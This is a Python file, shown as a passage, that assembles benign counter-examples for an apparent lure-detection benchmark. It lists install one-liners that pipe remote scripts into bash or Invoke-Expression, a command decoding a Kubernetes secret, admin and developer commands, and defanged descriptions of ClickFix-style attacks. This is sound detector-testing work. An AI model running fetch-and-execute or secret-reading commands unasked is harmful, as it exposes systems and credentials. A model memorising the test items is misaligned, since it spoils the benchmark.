        "https://github.com/continuedev/continue/blob/main/CONTRIBUTING.md",
        "# Node via nvm (see .nvmrc)\ncurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
    ),
    ("https://github.com/astral-sh/ruff-pre-commit", "pip install pre-commit\npre-commit install"),
    (
        "https://github.com/ScoopInstaller/Main",
        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression\nscoop bucket add main",
    ),
    (
        "https://github.com/microsoft/vcpkg/blob/master/README.md",
        "git clone https://github.com/microsoft/vcpkg.git\ncd vcpkg; .\\bootstrap-vcpkg.bat\n.\\vcpkg.exe integrate install",
    ),
    (
        "https://github.com/tauri-apps/create-tauri-app",
        "# PowerShell\nirm https://create.tauri.app/ps | iex",
    ),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://wiki.intranet.example/it/windows/time-sync",
        TERM,
        'w32tm /config /manualpeerlist:"time.corp.example" /syncfromflags:manual /update\nw32tm /resync /force',
    ),
    (
        "https://wiki.intranet.example/it/windows/wsus-reset",
        TERM,
        "net stop wuauserv\nnet stop bits\nRename-Item C:\\Windows\\SoftwareDistribution SoftwareDistribution.old\nnet start bits\nnet start wuauserv",
    ),
    (
        "https://wiki.intranet.example/it/ad/locked-accounts",
        TERM,
        "Search-ADAccount -LockedOut | Select-Object Name,SamAccountName,LastLogonDate | Sort-Object Name",
    ),
    (
        "https://wiki.intranet.example/it/ad/stale-computers",
        TERM,
        "Get-ADComputer -Filter {LastLogonTimeStamp -lt $cutoff} -Properties LastLogonTimeStamp | Select Name,@{n='LastLogon';e={[DateTime]::FromFileTime($_.LastLogonTimeStamp)}}",
    ),
    (
        "https://wiki.intranet.example/it/windows/bitlocker",
        TERM,
        "manage-bde -status D:\nmanage-bde -protectors -get D: -Type RecoveryPassword",
    ),
    (
        "https://wiki.intranet.example/it/windows/gpupdate",
        RUN,
        "cmd /k gpupdate /force && gpresult /r /scope computer",
    ),
    (
        "https://wiki.intranet.example/it/windows/dns-flush",
        RUN,
        "cmd /c ipconfig /flushdns && ipconfig /registerdns",
    ),
    (
        "https://wiki.intranet.example/it/windows/sfc",
        TERM,
        "DISM /Online /Cleanup-Image /ScanHealth\nDISM /Online /Cleanup-Image /RestoreHealth /LimitAccess\nsfc /scannow",
    ),
    (
        "https://wiki.intranet.example/it/windows/printers",
        RUN,
        "rundll32 printui.dll,PrintUIEntry /in /n\\\\print01.corp.example\\Floor3-Color",
    ),
    (
        "https://wiki.intranet.example/it/linux/journal",
        TERM,
        'sudo journalctl --vacuum-time=14d\nsudo journalctl -u nginx --since "1 hour ago"',
    ),
    (
        "https://wiki.intranet.example/it/linux/disk",
        TERM,
        "sudo du -xh / --max-depth=1 2>/dev/null | sort -h | tail -20",
    ),
    (
        "https://wiki.intranet.example/it/linux/apt-held",
        TERM,
        "apt-mark showhold\nsudo apt-mark unhold linux-image-generic",
    ),
    (
        "https://wiki.intranet.example/it/linux/certs",
        TERM,
        "sudo cp corp-root-ca.crt /usr/local/share/ca-certificates/\nsudo update-ca-certificates",
    ),
    (
        "https://wiki.intranet.example/it/k8s/drain",
        TERM,
        "kubectl cordon node-07\nkubectl drain node-07 --ignore-daemonsets --delete-emptydir-data --timeout=10m",
    ),
    (
        "https://wiki.intranet.example/it/k8s/secrets",
        TERM,
        "kubectl get secret app-db -n prod -o jsonpath='{.data.password}' | base64 -d",
    ),
    (
        "https://wiki.intranet.example/it/db/pg-locks",
        TERM,
        'psql -c "SELECT pid, relation::regclass, mode, granted FROM pg_locks WHERE NOT granted;"',
    ),
    (
        "https://wiki.intranet.example/it/db/mysql-backup",
        TERM,
        "mysqldump --single-transaction --routines --triggers -u backup -p shop | gzip > shop-$(date +%F).sql.gz",
    ),
    (
        "https://wiki.intranet.example/it/mac/mdm",
        TERM,
        "sudo profiles renew -type enrollment\nsudo jamf recon",
    ),
    (
        "https://wiki.intranet.example/it/mac/dns",
        TERM,
        "scutil --dns | grep -A3 'resolver #1'\nsudo dscacheutil -flushcache",
    ),
    (
        "https://wiki.intranet.example/it/windows/defender-scan",
        TERM,
        "Start-MpScan -ScanType QuickScan\nGet-MpThreatDetection | Select-Object -First 10",
    ),
    (
        "https://wiki.intranet.example/it/windows/wsl",
        TERM,
        "wsl --update\nwsl --shutdown\nwsl -l -v",
    ),
    (
        "https://wiki.intranet.example/it/windows/ps-remoting",
        TERM,
        "Enable-PSRemoting -Force\nSet-Item WSMan:\\localhost\\Client\\TrustedHosts -Value 'srv-app01.corp.example'",
    ),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    (
        "https://stackoverflow.example/q/8812",
        "git log --oneline --graph --decorate --all --since=2.weeks | head -60",
    ),
    (
        "https://stackoverflow.example/q/8813",
        "find . -name '*.pyc' -delete && find . -name __pycache__ -type d -empty -delete",
    ),
    ("https://stackoverflow.example/q/8814", "docker builder prune --filter until=72h -f"),
    ("https://stackoverflow.example/q/8815", "git rebase -i --autosquash origin/main"),
    ("https://stackoverflow.example/q/8816", "python -m http.server 8000 --bind 127.0.0.1"),
    (
        "https://stackoverflow.example/q/8817",
        "curl -s https://api.github.com/repos/neovim/neovim/releases/latest | jq -r '.assets[].name'",
    ),
    (
        "https://stackoverflow.example/q/8818",
        'for f in *.heic; do magick "$f" "${f%.heic}.jpg"; done',
    ),
    (
        "https://stackoverflow.example/q/8819",
        'ssh-keygen -t ed25519 -C "ci@example.com" -f ~/.ssh/deploy_key_site -N ""',
    ),
    (
        "https://stackoverflow.example/q/8820",
        "openssl req -x509 -newkey rsa:4096 -nodes -keyout key.pem -out cert.pem -days 365 -subj '/CN=localhost'",
    ),
    (
        "https://stackoverflow.example/q/8821",
        "Get-ChildItem -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item",
    ),
    ("https://stackoverflow.example/q/8822", "npx kill-port 3000 5173"),
    (
        "https://stackoverflow.example/q/8823",
        "git config --global alias.lg \"log --color --graph --pretty=format:'%h %s (%cr) <%an>' --abbrev-commit\"",
    ),
    (
        "https://stackoverflow.example/q/8824",
        "tar --exclude=node_modules -czf project.tgz project/",
    ),
    (
        "https://stackoverflow.example/q/8825",
        "awk -F, 'NR>1 {sum[$2]+=$4} END {for (k in sum) print k, sum[k]}' orders-2026.csv",
    ),
    (
        "https://stackoverflow.example/q/8826",
        "rsync -avz --progress --delete ./public/ deploy@web01.example:/var/www/site/",
    ),
    (
        "https://stackoverflow.example/q/8827",
        "ffmpeg -i input.mov -vcodec libx264 -crf 23 -preset medium -acodec aac output.mp4",
    ),
    (
        "https://stackoverflow.example/q/8828",
        "[Convert]::ToBase64String([IO.File]::ReadAllBytes('logo.png')) | Set-Clipboard",
    ),
    ("https://stackoverflow.example/q/8829", "echo 'eyJhbGciOiJIUzI1NiJ9' | base64 -d; echo"),
    (
        "https://stackoverflow.example/q/8830",
        "while true; do curl -s -o /dev/null -w '%{http_code}\\n' http://localhost:8080/health; sleep 2; done",
    ),
    (
        "https://stackoverflow.example/q/8831",
        "pip freeze | grep -v '^-e' | cut -d= -f1 | xargs -n1 pip install -U",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, text in [
    (
        "https://developer.mozilla.example/docs/Web/API/Fetch_API/Using_Fetch",
        "const res = await fetch('/api/items'); console.table(await res.json());",
    ),
    (
        "https://devtools-tips.example/copy",
        "copy([...document.querySelectorAll('table tr td:first-child')].map(td => td.textContent.trim()).join('\\n'))",
    ),
    (
        "https://devtools-tips.example/perf",
        "performance.getEntriesByType('resource').filter(r => r.duration > 500).map(r => r.name)",
    ),
    (
        "https://devtools-tips.example/storage",
        "console.log(Object.entries(sessionStorage).filter(([k]) => k.startsWith('app:')).map(([k, v]) => `${k} = ${v.length}B`))",
    ),
    ("https://devtools-tips.example/monitor", "monitorEvents(document.body, 'click')"),
    (
        "https://devtools-tips.example/sw",
        "(await navigator.serviceWorker.getRegistrations()).map(r => [r.scope, r.active?.state])",
    ),
    (
        "https://docs.metamask.example/wallet/how-to/connect",
        "const chainId = await window.ethereum.request({ method: 'eth_chainId' }); console.log(parseInt(chainId, 16));",
    ),
    (
        "https://docs.ethers.example/v6/getting-started",
        "const provider = new ethers.BrowserProvider(window.ethereum); const block = await provider.getBlockNumber();",
    ),
    (
        "https://devtools-tips.example/cookies-own-site",
        "await cookieStore.getAll().then(cs => cs.map(c => c.name))",
    ),
    (
        "https://devtools-tips.example/images",
        "[...document.images].filter(i => !i.alt).map(i => i.src)",
    ),
    (
        "https://devtools-tips.example/darkmode",
        "document.documentElement.style.filter = 'invert(1) hue-rotate(180deg)'",
    ),
    (
        "https://devtools-tips.example/timing",
        "console.time('render'); renderList(); console.timeEnd('render');",
    ),
    ("https://devtools-tips.example/jquery", "$$('details').forEach(d => d.open = true)"),
    (
        "https://devtools-tips.example/indexeddb",
        "indexedDB.databases().then(dbs => console.log(dbs.map(d => d.name)))",
    ),
]:
    ok(CONSOLE, CON, page, text)

# --- Security write-ups quoting lures (in prose, defanged or described) -----------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://blog.secteam.example/2026/clickfix-wave",
        "The fake CAPTCHA told visitors to press Win+R and paste a PowerShell command that fetched a second stage from hxxps://verify[.]badhost[.]test. Block mshta and PowerShell from the Run box via policy.",
    ),
    (
        "https://blog.secteam.example/2026/filefix",
        "FileFix abuses the File Explorer address bar: the page copies a command padded with spaces so only a harmless-looking path is visible. Users should never paste into the address bar from a web page.",
    ),
    (
        "https://blog.secteam.example/2026/amos",
        "The macOS stealer was delivered by a page asking users to open Terminal and paste a base64 string piped to bash. It then prompted for the login password with osascript.",
    ),
    (
        "https://intel.vendor.example/reports/kongtuke",
        "KongTuke injects a script into compromised WordPress sites; the overlay copies a command to the clipboard and instructs the victim to run it. IOCs are listed in the appendix, defanged.",
    ),
    (
        "https://intel.vendor.example/reports/device-code",
        "In device-code phishing the attacker starts the OAuth device flow and sends the user code to the victim, who signs in at the real Microsoft page and thereby grants the attacker a token.",
    ),
    (
        "https://intel.vendor.example/reports/consentfix",
        "ConsentFix asks the victim to paste a localhost URL containing an authorization code into the attacker's page, completing an OAuth flow for the attacker's app.",
    ),
    (
        "https://awareness.corp.example/phishing/callback",
        "Callback phishing mails contain no link, only a fake invoice and a phone number. When you call, the 'agent' asks you to install remote-access software. Hang up and report it.",
    ),
    (
        "https://awareness.corp.example/phishing/tech-support",
        "Pop-ups that lock your browser and show a support number are scams. Microsoft never shows phone numbers in error messages. Close the browser with Task Manager.",
    ),
    (
        "https://blog.secteam.example/2026/dns-staging",
        "The command used nslookup to query a TXT record and passed the answer to cmd; the record contained the next PowerShell stage. Watch for nslookup spawned by explorer.exe.",
    ),
    (
        "https://blog.secteam.example/2026/etherhiding",
        "EtherHiding stores the payload URL in a smart contract; the injected script reads it with an eth_call to a public RPC endpoint, so takedowns of the web server do not stop the chain.",
    ),
    (
        "https://blog.secteam.example/2026/linux-pastejacking",
        "Pastejacking on Linux: a documentation page showed 'sudo apt install foo' but the clipboard received an extra line with curl piped to bash. Use bracketed paste in your shell.",
    ),
    (
        "https://intel.vendor.example/reports/fake-meetings",
        "Fake Teams and Zoom pages claim the microphone is broken and offer a 'fix' to paste into the Run dialog; the command installs a remote access trojan.",
    ),
    (
        "https://awareness.corp.example/wallets",
        "Wallet drainers ask you to sign a Permit or setApprovalForAll message. Read what you sign: an unlimited approval lets the spender move all tokens.",
    ),
    (
        "https://blog.secteam.example/2026/detections",
        "Detection idea: alert when explorer.exe spawns powershell.exe, mshta.exe or cmd.exe with a command line containing a URL, and the RunMRU key gets a new entry at the same time.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers, in the 13 languages -------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://mail.corp.example/m/a1",
        "Hi Sam, your laptop replacement is ready for pickup at the IT desk (room 2.14). Questions? Call the service desk on extension 4410 or +1 555 010 4410.",
    ),
    (
        "https://mail.corp.example/m/a2",
        "Hallo Frau Berger, Ihr Termin beim Kundendienst ist am Dienstag um 10 Uhr. Bei Verhinderung erreichen Sie uns unter 030 5550 1122.",
    ),
    (
        "https://mail.corp.example/m/a3",
        "Bonjour, votre commande n° 44812 a été expédiée. Pour toute question, notre service client est joignable au 01 55 50 12 34 du lundi au vendredi.",
    ),
    (
        "https://mail.corp.example/m/a4",
        "Hola Marta, le confirmamos la cita del técnico para el jueves. Si necesita cambiarla, llame al 91 555 0123.",
    ),
    (
        "https://mail.corp.example/m/a5",
        "Gentile cliente, la riparazione è completata e può ritirare il dispositivo. Per informazioni: 02 5550 1234.",
    ),
    (
        "https://mail.corp.example/m/a6",
        "Olá João, a sua encomenda chega amanhã entre as 9h e as 13h. Dúvidas: 21 555 0147.",
    ),
    (
        "https://mail.corp.example/m/a7",
        "Beste klant, uw afspraak voor de installatie staat gepland op 12 december. Vragen? Bel 020 555 0199.",
    ),
    (
        "https://mail.corp.example/m/a8",
        "Dzień dobry, przypominamy o wizycie serwisanta w piątek. W razie pytań prosimy o kontakt: 22 555 01 23.",
    ),
    (
        "https://mail.corp.example/m/a9",
        "Merhaba Ayşe Hanım, siparişiniz kargoya verildi. Sorularınız için müşteri hizmetleri: 0212 555 01 23.",
    ),
    (
        "https://mail.corp.example/m/a10",
        "Здравствуйте! Ваш заказ готов к выдаче. По вопросам звоните: +7 495 555-01-23.",
    ),
    (
        "https://mail.corp.example/m/a11",
        "いつもご利用ありがとうございます。修理が完了しました。お問い合わせは 03-5550-0123 までお願いいたします。",
    ),
    (
        "https://mail.corp.example/m/a12",
        "您好，您的维修单已处理完毕，可以到店取机。如有疑问请致电 010-5550-0123。",
    ),
    (
        "https://mail.corp.example/m/a13",
        "مرحباً، تم شحن طلبك وسيصل خلال يومين. للاستفسار اتصل على 04 555 0123.",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ---------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.example/entra/identity-platform/v2-oauth2-device-code",
        "The device code flow: the app shows a user code and asks the user to visit https://microsoft.com/devicelogin on another device to sign in. Use it for input-constrained devices such as TVs.",
    ),
    (
        "https://docs.github.example/apps/oauth/device-flow",
        "Your app requests a device and user code, then prompts the user to enter the user code at https://github.com/login/device.",
    ),
    (
        "https://docs.oauth.example/native-apps",
        "Native apps use a loopback redirect, for example http://127.0.0.1:51004/callback, and PKCE. The authorization code is delivered to the local listener.",
    ),
    (
        "https://docs.cli-tool.example/login",
        "Run `tool auth login`. A browser window opens; after you approve, the CLI receives the code on http://localhost:8085 and stores the token in your keychain.",
    ),
    (
        "https://docs.azure-cli.example/authenticate",
        "az login --use-device-code\n# then open https://microsoft.com/devicelogin and enter the code shown in your terminal",
    ),
    (
        "https://docs.gcloud.example/auth",
        "gcloud auth login --no-launch-browser\n# copy the URL into a browser on another machine, then paste the verification code back here",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run-box and Explorer entries people really type -----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "control /name Microsoft.BackupAndRestoreCenter",
    "control mmsys.cpl,,2",
    "SystemPropertiesPerformance.exe",
    "ms-settings:windowsupdate-optionalupdates",
    "ms-settings:privacy-broadfilesystemaccess",
    "shell:CommonVideo",
    "shell:Ringtones",
    "mstsc /v:rdp-gw.corp.example /f",
    "msinfo32 /nfo %USERPROFILE%\\Documents\\ws-0441.nfo",
    "perfmon.exe /report",
    'eventvwr.msc /c:"Microsoft-Windows-PrintService/Admin"',
    "explorer.exe /select,C:\\Windows\\System32\\drivers\\etc\\hosts",
    "notepad %APPDATA%\\Code\\User\\settings.json",
    "cmd /k cd /d %USERPROFILE%\\source\\repos",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "\\\\fs01.corp.example\\Projects\\2026\\Q4",
    "%LOCALAPPDATA%\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\Logs",
    "E:\\SteamLibrary\\steamapps\\common\\Factorio\\mods",
    "%APPDATA%\\Microsoft\\Windows\\Recent\\AutomaticDestinations",
    "shell:::{D20EA4E1-3957-11d2-A40B-0C5020524153}",
    "C:\\Users\\Public\\Documents\\Scans",
    "\\\\nas.home.example\\photos\\2026\\Urlaub Kroatien",
    "%USERPROFILE%\\OneDrive - Contoso\\Finance\\Budget 2027.xlsx",
    "ftp://ftp.corp.example/pub/drivers/",
    "C:\\Windows\\Panther",
    "shell:Libraries",
    "%TEMP%",
    "D:\\Backups\\Outlook\\2026\\archive-h1.pst",
    "\\\\print01.corp.example",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets ---------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/example-org/site/blob/main/.github/workflows/deploy.yml",
        "- name: Install pnpm\n  run: curl -fsSL https://get.pnpm.io/install.sh | sh -\n- name: Build\n  run: pnpm install --frozen-lockfile && pnpm build",
    ),
    (
        "https://github.com/example-org/api/blob/main/Dockerfile",
        'FROM python:3.12-slim\nCOPY --from=ghcr.io/astral-sh/uv:latest /uv /bin/uv\nWORKDIR /app\nCOPY . .\nRUN uv sync --frozen\nCMD ["uv", "run", "app.py"]',
    ),
    (
        "https://github.com/example-org/infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackages:\n  - nginx\n  - fail2ban\nruncmd:\n  - systemctl enable --now nginx",
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.zshrc",
        'export PATH="$HOME/.local/bin:$PATH"\neval "$(starship init zsh)"\neval "$(zoxide init zsh)"',
    ),
    (
        "https://github.com/example-org/app/blob/main/.env.example",
        "DATABASE_URL=postgres://inventory:changeme@localhost:5433/inventory\nREDIS_URL=redis://localhost:6380/2\nLOG_LEVEL=debug\nSENTRY_DSN=",
    ),
    (
        "https://github.com/example-org/app/blob/main/Makefile",
        "install:\n\tpython -m pip install -e '.[dev]'\n\ntest:\n\tpytest -q\n\nlint:\n\truff check .",
    ),
    (
        "https://logs.internal.example/proxy",
        "2026-12-06T22:41:07Z INFO proxy allow user=jdoe host=pypi.org path=/simple/requests/ status=200 bytes=18231",
    ),
    (
        "https://logs.internal.example/edr",
        '2026-12-06T22:43:11Z ALERT edr rule="Office spawning PowerShell" host=WS-0441 parent=WINWORD.EXE action=blocked',
    ),
    (
        "https://github.com/example-org/app/blob/main/package.json",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc -b && vite build",\n    "preview": "vite preview"\n  }\n}',
    ),
    (
        "https://github.com/example-org/k8s/blob/main/deploy.yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: web\n          image: ghcr.io/example-org/web:1.8.2\n          ports:\n            - containerPort: 8080",
    ),
    (
        "https://github.com/example-org/win/blob/main/setup.ps1",
        "#Requires -RunAsAdministrator\nwinget install --id Git.Git -e\nwinget install --id Microsoft.VisualStudioCode -e\nwinget install --id Python.Python.3.12 -e",
    ),
    (
        "https://github.com/example-org/ansible/blob/main/site.yml",
        "- hosts: web\n  become: true\n  tasks:\n    - name: Install packages\n      ansible.builtin.apt:\n        name: [nginx, certbot]\n        state: present",
    ),
]:
    ok(CONFIG, UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind13", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind13", BENIGN)


def main() -> None:
    blindkit.main("blind13", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
